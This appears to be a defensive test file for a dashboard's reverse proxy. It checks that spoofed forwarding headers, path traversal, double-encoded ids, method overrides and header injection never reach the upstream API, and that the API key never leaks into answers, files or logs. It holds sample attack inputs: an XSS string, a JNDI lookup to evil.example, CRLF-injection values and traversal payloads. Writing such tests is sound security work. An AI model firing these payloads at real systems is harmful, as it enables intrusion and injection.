import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

import { ROOT } from '../../scripts/run.ts'
import { ask, codeOf } from './support/ask.ts'
import { API_KEY } from './support/service.ts'
import { expect, test } from './support/test.ts'

const SCORE = '/v1/brands/northwind/geo-score'

test.describe('behind a trusted proxy', () => {
  test.use({ settings: { TRUSTED_PROXY: '127.0.0.1' } })

  test('nothing about a request leads elsewhere or reaches the log', async ({ site, upstream }) => {
    const ADDRESSES = [
      '',
      ' , ,',
      'unknown',
      '192.0.2.1, unknown',
      '_hidden',
      '192.0.2.1:443',
      '[2001:db8::1]:443',
      '::ffff:192.0.2.9',
      'fe80::1%eth0',
      '999.999.999.999',
      '127.0.0.1',
      '127.0.0.1, 127.0.0.1',
      '"><script>alert(1)</script>',
      '$remote_user ${jndi:ldap://evil.example/a}',
      Array.from({ length: 500 }, () => '192.0.2.1').join(', '),
      'a'.repeat(8000),
    ]
    for (const address of ADDRESSES) {
      const headers = { 'X-Forwarded-For': address, 'X-Real-IP': address }
      for (const path of ['/brands/northwind', SCORE]) {
        const { status } = await ask(site.url, path, { headers })
        expect([address, path, status]).toEqual([address, path, 200])
      }
    }
    const LIES = {
      'X-Forwarded-Host': 'evil.example, evil.example',
      'X-Forwarded-Proto': 'javascript',
      'X-Forwarded-Port': '0',
      'X-Forwarded-Prefix': '//evil.example',
      'X-Forwarded-Server': 'evil.example',
      'X-Forwarded-Uri': '/v1/keys',
      'X-Original-URL': '/v1/keys',
      'X-Rewrite-URL': '/v1/keys',
      'X-HTTP-Method-Override': 'DELETE',
      Forwarded: 'for="_evil";host=evil.example;proto=http',
    }
    for (const path of ['/', '/brands/northwind', '/assets', SCORE]) {
      const plain = await ask(site.url, path)
      const answer = await ask(site.url, path, { headers: LIES })
      expect([path, answer.status, answer.headers.location]).toEqual([
        path,
        plain.status,
        plain.headers.location,
      ])
      expect(answer.body.equals(plain.body)).toBe(true)
    }
    expect(JSON.stringify(upstream.received)).not.toContain('evil.example')
    const { access } = await site.readLogs()
    for (const line of access.trim().split('\n'))
      expect(line).toMatch(/^[\da-f.:]+ - \[|^[\da-f.:]+ - - /)
  })
})

test.describe('with a service below a path', () => {
  test.use({
    settings: async ({ upstream }, use) => use({ API_URL: `${upstream.url}/prefix/` }),
  })

  test('paths arrive exactly as they were sent', async ({ site, upstream }) => {
    const paths = [
      '/v1/brands/a%2Fb/geo-score',
      '/v1/brands/..hidden/citations/stats',
      '/v1/brands/a..b/geo-score/breakdown',
      '/v1/brands/a%2F..b%2F...%2Fc/geo-score/history?period=30d',
      '/v1/brands/100%25%3B/geo-score',
      '/v1/brands/%F0%9F%8D%B5%20tea/citations?cursor=a%2Bb%3D&limit=50',
      '/v1/citations/foo.js',
      `/v1/citations/${'%F0%9F%8D%B5'.repeat(200)}`,
    ]
    for (const path of paths) await ask(site.url, path)
    expect(upstream.received.map(({ path }) => path)).toEqual(paths.map((path) => `/prefix${path}`))
    expect((await ask(site.url, SCORE)).status).toBe(200)
  })
})

test('the key works for the six endpoints and nothing else', async ({ site, upstream }) => {
  await test.step('six endpoints', async () => {
    const paths = [
      '/v1',
      '/v1/',
      '/v1/keys',
      '/v1/brands',
      '/v1/brands/northwind',
      '/v1/brands/northwind/keys',
      '/v1/brands/../keys/geo-score',
      '/v1/brands/%2e%2E/geo-score',
      '/v1/brands/./citations',
      '/v1/brands//geo-score',
      '/v1/brands/northwind/geo-score/',
      '/v1/citations/..',
      '/v1/citations/%2e?limit=1',
      '/v1/citations/a/b',
      '/v1/citations/..\\..\\v1\\keys',
      '/v1/brands/..\\keys/geo-score',
      '/v1/brands/a#/geo-score',
      '/v1/citations/a#b',
    ]
    for (const path of paths) {
      const answer = await ask(site.url, path)
      expect([path, answer.status, codeOf(answer)]).toEqual([path, 404, 'NOT_FOUND'])
    }
    // Tricks end at a page or a 404, never at the service.
    for (const path of [
      '/x/..%2fv1/brands/northwind/geo-score',
      '//v1/brands/northwind/geo-score',
      '/%761/brands/northwind/geo-score',
      '/@api',
    ]) {
      expect((await ask(site.url, path)).headers['x-cache-status']).toBeUndefined()
    }
    for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS', 'PURGE']) {
      const answer = await ask(site.url, SCORE, { method })
      expect([method, answer.status, codeOf(answer)]).toEqual([method, 405, 'METHOD_NOT_ALLOWED'])
      expect(answer.headers.allow).toBe('GET, HEAD')
    }
    expect(upstream.received).toEqual([])
  })

  await test.step('an id that is a path to elsewhere once decoded, once or twice, does not reach the service', async () => {
    const ids = [
      '..%2F..%2Fadmin',
      '..%2fadmin',
      'a%2F..',
      'a%2F..%2Fb',
      'a%2F.%2Fb',
      '..;',
      '..;x',
      '..%3Bx',
      '..%253Bx%2Fadmin',
      'a%2F..;%2Fb',
      '..%5C..%5Cadmin',
      '%2e%2e%5c',
      '.%2E',
      '%252e%252e',
      '%252E',
      'a%252F..%252Fb',
      'a%255c%252e.%255cb',
      '%25%32%65%25%32%65',
      '%252%65%252%65',
      '%25252e%25252e',
      'northwind;x=y',
      'northwind;',
      '..%c0%af',
      '%c0%ae%c0%ae',
      '%e0%80%af',
      '%F0%80%80%af',
      '%ff',
      '%80',
      'a%0d%0aX-Y:z',
      'a%0A',
      'a%250d%250aX-Y:z',
      'a%7f',
      'x'.repeat(2401),
    ]
    for (const id of ids) {
      for (const path of [`/v1/brands/${id}/geo-score`, `/v1/citations/${id}`]) {
        const answer = await ask(site.url, path)
        expect([path, answer.status, codeOf(answer)]).toEqual([path, 404, 'NOT_FOUND'])
      }
    }
    expect(upstream.received).toEqual([])
  })

  await test.step('the service gets the key, but no headers of the user', async () => {
    const answer = await ask(site.url, SCORE, {
      headers: {
        Authorization: 'Bearer of-the-user',
        Cookie: 'session=of-the-user',
        'X-Mock-Scenario': 'server-down',
        'X-Forwarded-For': '203.0.113.7',
        'Sec-Fetch-Site': 'same-origin',
        Origin: 'http://user.example',
        Referer: 'http://user.example/?q=private',
        'User-Agent': 'user',
        'Accept-Encoding': 'br',
      },
    })
    expect(answer.status).toBe(200)
    expect(upstream.received.map(({ headers }) => headers)).toEqual([
      {
        host: new URL(upstream.url).host,
        accept: 'application/json',
        'user-agent': 'brand-visibility-dashboard',
        authorization: `Bearer ${API_KEY}`,
      },
    ])
  })

  await test.step('large answers are compressed', async () => {
    const { headers } = await ask(site.url, '/v1/brands/northwind/citations?limit=50', {
      headers: { 'Accept-Encoding': 'gzip' },
    })
    expect([headers['content-encoding'], headers['content-type']]).toEqual([
      'gzip',
      'application/json',
    ])
  })
})

test('no answer, file or log has the key, and no log searches', async ({ site, upstream }) => {
  const paths = [
    '/',
    '/config.json',
    '/conf.d/default.conf',
    '/brands/northwind/citations?q=secret-search',
    '/brands/northwind/citations/cit_nw_000000',
    '/v1/citations/cit_nw_000000',
    '/assets/none.js',
    SCORE,
    `${SCORE}?q=secret-search`,
    '/v1/nothing',
    // Other spellings are not pages of the site, and may contain an id anywhere.
    '//brands/northwind',
    '//v1/brands/northwind/geo-score',
    '/V1/brands/northwind/geo-score',
    '/v1/Brands/northwind/geo-score',
    '/v1//brands/northwind/geo-score',
    '/v1/brands//northwind/geo-score',
    '/v1/brands/x/geo-score/northwind',
    '/v1/brands/x/../northwind/geo-score',
    '/%76%31/brands/northwind/geo-score',
    '/v1/%62rands/northwind/geo-score',
    '/%62rands/northwind',
    '/BRANDS/northwind',
    '/brands;x/northwind',
    '/brands/x/northwind',
    '/brands/x/citations/y/northwind',
    '/./brands/northwind',
    '/x/../brands/northwind/report',
    '/assets/..%2Fbrands%2Fnorthwind',
    '/northwind',
    '/oauth2/northwind/cit_nw_000000',
  ]
  const answers = await Promise.all(paths.map(async (path) => ask(site.url, path)))
  answers.push(await ask(site.url, SCORE, { method: 'TRACE' }))
  await upstream.goDown()
  answers.push(await ask(site.url, '/v1/brands/atlas/geo-score'))
  for (const { headers, body } of answers) {
    expect(JSON.stringify(headers) + body.toString()).not.toContain(API_KEY)
  }
  for (const file of globSync('dist/**/*.{js,css,html,json}', { cwd: ROOT })) {
    expect(readFileSync(join(ROOT, file), 'utf8')).not.toContain(API_KEY)
  }
  // nginx writes a line after it has answered.
  await expect
    .poll(async () => (await site.readLogs()).access)
    .toContain('"GET /v1/brands/*/geo-score" 502')
  const { access, error } = await site.readLogs()
  // Nor ids of brands and citations.
  for (const line of ['/brands/*/citations', '/brands/*/citations/*', '/v1/brands/*/geo-score']) {
    expect(access).toContain(`"GET ${line}" 200`)
  }
  expect(access).toContain('"GET /v1/citations/*" 200')
  expect(access).not.toMatch(/northwind|cit_nw/)
  expect(access).not.toContain('secret-search')
  expect(error).toContain('connect() failed')
  expect(access + error).not.toContain(API_KEY)
})
